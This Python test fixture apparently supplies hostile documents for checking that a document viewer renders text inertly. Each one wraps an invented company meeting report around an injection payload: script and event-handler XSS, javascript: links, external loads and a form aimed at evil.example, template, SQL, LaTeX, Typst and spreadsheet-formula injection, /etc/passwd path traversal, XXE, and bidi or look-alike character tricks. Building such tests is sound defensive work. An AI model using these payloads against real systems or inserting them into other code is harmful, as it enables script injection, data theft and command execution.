"""Hostile documents, shared by every test that shows source text: each must come out inert in every view and format.

Each case is a whole document with something to read in it (a body meets on a day, in the words of an invented group)
and one attack. `CASES` are pairs of a name and text or bytes; a case that does run shows as the title `owned`, a
dialog, a request, an element that no template wrote, or a sum worked out (`7*7` is `49` nowhere in the words).
"""

_EN = "On March 3, 2025, the Yunling Group's Party Committee held its 4th meeting of 2025. "
_ZH = "2025年3月3日，云岭稀土集团党委召开2025年第4次会议，强调发展新质生产力。"
_DUE = "公司计划2026年6月底前建成二期项目，年产稀土氧化物3万吨。"
OWN = "document.title='owned'"


def _said(attack: str) -> str:
    """Return a document with an attack in its title, in an English and in a Chinese sentence and in a list."""
    return (
        f"Yunling meets {attack}\n\n{_EN}Chairman Shen Huaiyuan {attack} chaired it.\n\n"
        f"{_ZH}党委书记沈怀远{attack}主持会议。{_DUE}\n- {attack}\n"
    )


_MARKUP = {
    "script": f"<script>{OWN}</script>",
    "script-after-end-tag": f"</title></style></textarea></script><script>{OWN}</script>",
    "script-in-odd-case": f"<ScRiPt/x>{OWN}</sCrIpT >",
    "script-from-outside": '<script src="https://evil.example/x.js"></script>',
    "image-handler": f'<img src=x onerror="{OWN}">',
    "image-handler-without-quotes": f"<img/src=x/onerror={OWN}//",
    "svg-handler": f'<svg onload="{OWN}"><animate onbegin="{OWN}" attributeName="x"/></svg>',
    "svg-script": f"<svg><script>{OWN}</script><foreignObject><iframe src='javascript:{OWN}'/></foreignObject></svg>",
    "svg-use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={OWN}>#x"/></svg>',
    "math-link": f'<math><maction actiontype="statusline" xlink:href="javascript:{OWN}">x</maction></math>',
    "javascript-link": f'<a href="javascript:{OWN}">read on</a> [read on](javascript:{OWN})',
    "javascript-link-in-pieces": f'<a href="java\tscript:{OWN}">x</a> <a href="&#106;avascript:{OWN}">x</a>',
    "data-link": "[x](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nb3duZWQnPC9zY3JpcHQ+)",
    "frame": f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe><object data="x.swf"></object><embed src=x>',
    "base-and-refresh": '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "style-element": "<style>*{display:none}body{background:url(https://evil.example/css)}</style>",
    "style-attribute": '<p style="position:fixed;inset:0;background:url(//evil.example/p)">covered</p>',
    "style-import": "</style><style>@import '//evil.example/i.css';</style><link rel=stylesheet href=//e>",
    "attribute-breaking": f"\" autofocus onfocus=\"{OWN}\" x=' onmouseover='{OWN}' `",
    "comment-breaking": f"--><script>{OWN}</script><!-- <![CDATA[ ]]> <?xml version='1.0'?>",
    "form": '<form action="//evil.example"><input name="verdict" value="reject"><button formaction="//e">x</button>',
    "entity-twice": f"&lt;script&gt;{OWN}&lt;/script&gt; &amp;lt;img src=x onerror={OWN}&amp;gt; &#60;b&#62;",
    "page-breaking": "</mark></div></section></main></body></html><h1>owned</h1><main id=main>",
    "other-anchor": '<a id="here" name="f1"></a><span id="main"></span><div id=fact-1 class="said confirm">x</div>',
    "template": "{{ 7*7 }} {% raw %} {# x #} {{ self.__init__.__globals__ }} {% for x in ().__class__ %}",
    "template-of-others": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('document.title=1')()}} @(7*7)",
    "format-string": "%s%s%n %(x)s {0} {0.__class__} {document.text} \\x41 \\u0041 \\N{BULLET}",
    "typst": '#panic("owned") #import "@preview/x:0.1.0" #read("/etc/passwd") #eval("1") $ sum $ ]#[ @ref <label> \\',
    "typst-raw": '``` #read("x") ``` `a` *b* _c_ = Heading / term: x "closing" ) ] } // c /* d */',
    "latex": "\\input{/etc/passwd} \\write18{touch owned} $$x$$ %comment \\end{document}",
    "markdown": f"](javascript:{OWN}) ![x](https://evil.example/i.png) [^1]: x | a | b | ``` ~~~ <https://evil.example>",
    "markdown-heading": "\n# owned\n\n---\n\n> quoted\n\n[1]: https://evil.example 'x'\n\n    code\n",
    "spreadsheet": '=HYPERLINK("https://evil.example","x") +1+cmd|\' /C calc\'!A0 @SUM(1) -2+3 \t=1+1',
    "sql": "'; drop table documents; -- \" ) or 1=1 /* */ ;; select pg_sleep(9)",
    "terminal-escapes": "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\ \x9b31m \x08 \x7f",
    "null-bytes": f"Shen\x00 Huaiyuan <scr\x00ipt>{OWN}</script> \x00\x00 \x01\x02\x0b\x0c\x1f",
    "bidi-override": "\u202egnp.exe\u202c \u202dabc\u202c \u2066inside\u2069 \u2067right\u2069 \u200e\u200f\u061c",
    "bidi-unclosed": "\u202e\u2067\u202b left open to the end of the page (never closed)",
    "right-to-left": "شركة يونلينغ \u202bתאגיד\u202c 123 (abc) \u05d0\u05d1",
    "invisible": "新\u200b质\u200c生\u200d产\ufeff力 a\u00adb \u2060\u180e\u2028\u2029 \U000e0041\U000e0042\ufe0f",
    "look-alikes": "Yunlіng Gгoup раypal ｊａｖａｓｃｒｉｐｔ： ＜script＞ ‹script› 〈b〉 ﹤b﹥",
    "stacked-marks": "Z" + "\u0300\u0301\u0302\u0303\u0315\u0316\u0489" * 60 + " 会\u20dd议\u20e3",
    "emoji-and-astral": "👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e007f 𠀀𠮷𪚥 \U0010ffff \ufdd0 \ufffe",
    "csp-and-headers": "x\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\n<script>" + OWN + "</script>",
    "link-path": "../../../../etc/passwd ..\\..\\x file:///etc/passwd \\\\evil.example\\share C:\\con\\con %2e%2e%2f",
    "json-breaking": '"},"facts":[],"x":{"__proto__":{"polluted":1}} </script> \\u003cscript\\u003e \u2028',
    "xml-breaking": ']]></content><entry><title>owned</title></entry> &xxe; <!DOCTYPE x [<!ENTITY y "z">]> &#0; &#x1F;',
}

_WHOLE: dict[str, str | bytes] = {
    "huge-word": f"{_EN}\n\n{'x' * 60_000}\n\n{_ZH}{'岭' * 20_000}",
    "huge-line-of-tags": f"{_EN}\n\n{'<b>' * 12_000}\n\n{_ZH}",
    "many-lines": f"{_ZH}\n" + "<i>a</i>\n" * 6_000,
    "many-facts": f"{_ZH}<u>{_DUE}</u>" * 120,
    "deep-quotes": f"{_EN}" + "“" * 4_000 + "<b>会议指出" + "”" * 4_000 + _ZH,
    "title-only": f"<script>{OWN}</script>",
    "broken-utf-8": _EN.encode() + b"\xff\xfe\xc0\xaf\xed\xa0\x80\xf5<script>\xe6\x96</script>\n\n" + _ZH.encode(),
    "utf-16": ("\ufeff" + _said(f"<script>{OWN}</script>")).encode("utf-16-le"),
    "utf-7": _EN.encode() + b"+ADw-script+AD4-document.title+AD0-'owned'+ADw-/script+AD4-\n",
    "gb18030": _said(f"<svg onload={OWN}>").encode("gb18030"),
    "null-filled": b"\x00" * 500 + _EN.encode() + b"\x00" * 500 + _ZH.encode(),
}

CASES: tuple[tuple[str, str | bytes], ...] = (
    *((name, _said(attack)) for name, attack in _MARKUP.items()),
    *_WHOLE.items(),
)


def content_of(case: str | bytes) -> bytes:
    """Return a case as the bytes of a file."""
    return case if isinstance(case, bytes) else case.encode("utf-8")
